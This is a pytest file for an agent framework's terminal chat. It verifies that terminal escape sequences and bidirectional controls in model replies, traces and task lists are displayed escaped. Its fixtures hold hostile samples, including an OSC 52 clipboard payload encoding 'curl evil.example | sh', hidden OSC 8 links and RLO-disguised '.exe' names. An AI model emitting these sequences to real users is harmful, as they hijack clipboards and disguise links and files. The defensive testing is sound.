"""The terminal chat shows what a model writes as text: escape sequences that would set the user's clipboard
(OSC 52), hide where a link goes (OSC 8) or retitle the window, and bidirectional controls, are shown as
escapes, in the reply, the reasoning trace and the task list, never sent to the terminal (``baf run``)."""

from __future__ import annotations

import io
import os
from pathlib import Path

import pytest
from baf_test_helpers import baf
from rich.console import Console

# The model plans a task whose description hides a bidirectional override, writes a trace line with a window
# title sequence, then answers with OSC 52 (the clipboard: 'curl evil.example | sh') and an OSC 8 link.
AGENT = """
from baf import Agent
from baf.library.state.reasoning_state_library import new_reasoning_state
from baf.llm import LLMResponse, ToolCall
from baf.testing import FunctionLLM

CLIPBOARD = "\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x1b\\\\"
LINK = "\\x1b]8;;http://evil.example\\x1b\\\\docs\\x1b]8;;\\x1b\\\\"


def model(messages, tools, **_):
    done = sum(1 for m in messages if m["role"] == "tool")
    if done == 0:
        call = ToolCall(id="t1", name="add_tasks", arguments={"descriptions": ["pay \\u202egnp.exe"]})
        return LLMResponse(text="\\x1b]0;pwned\\x07planning", tool_calls=[call])
    if done == 1:
        done_task = ToolCall(id="t2", name="complete_task", arguments={"task_id": 1, "result": "ok"})
        return LLMResponse(tool_calls=[done_task])
    return LLMResponse(text=f"see {CLIPBOARD} {LINK}")


agent = Agent("term", log="sqlite:///term.db")
state = new_reasoning_state(agent, FunctionLLM(model))
state.when_event().go_to(state)
"""


@pytest.mark.slow
def test_a_models_escape_sequences_are_shown_as_escapes(tmp_path: Path) -> None:
    (tmp_path / "agent.py").write_text(AGENT)
    result = baf("run", "agent.py", cwd=tmp_path, stdin="hi\nexit\n")
    assert result.returncode == 0, result.stderr
    out = result.stdout
    for active in ("\x1b", "\x07", "\u202e"):
        assert active not in out, f"{active!r} reached the terminal"
    assert "\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==" in out  # the reply, shown as it is
    assert "\\x1b]8;;http://evil.example" in out
    assert "\\u202egnp.exe" in out  # the task list
    assert "\\x1b]0;pwned\\x07planning" in out  # the trace


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("Open invoice_&#x202E;fdp.exe now.", "invoice_\\u202efdp.exe"),  # a character reference, parsed
        ("&rlm;&#x2066;left", "\\u200f\\u2066left"),
        ("[the docs](https://evil.example/x)", "https://evil.example/x"),  # the address, not a hidden link
    ],
)
def test_what_markdown_parsing_makes_of_a_reply_is_shown_as_escapes_too(written: str, shown: str) -> None:
    from baf.platforms.terminal import _Markdown

    out = io.StringIO()
    Console(file=out, force_terminal=True, width=120, color_system=None).print(_Markdown(written))
    printed = out.getvalue()
    for active in ("\u202e", "\u200f", "\u2066", "\x1b]8;"):
        assert active not in printed, f"{active!r} reached the terminal"
    assert shown in printed


async def test_the_approval_prompt_read_from_a_pipe_shows_the_tool_name_as_escapes() -> None:
    """The tool's name comes from the log, which someone else may have written."""
    from baf.platforms.terminal import TerminalPlatform, _raw_lines

    read_end, write_end = os.pipe()
    out = io.StringIO()
    platform = TerminalPlatform(console=Console(file=out, force_terminal=False), input_fd=read_end)
    platform._lines = _raw_lines(read_end)
    os.write(write_end, b"y\n")
    try:
        assert await platform._read_line("approve \x1b]52;c;Y3VybA==\x07tool? ") == "y"
    finally:
        os.close(write_end)
        os.close(read_end)
    assert "\x1b" not in out.getvalue() and "\\x1b]52;c;Y3VybA==\\x07tool?" in out.getvalue()
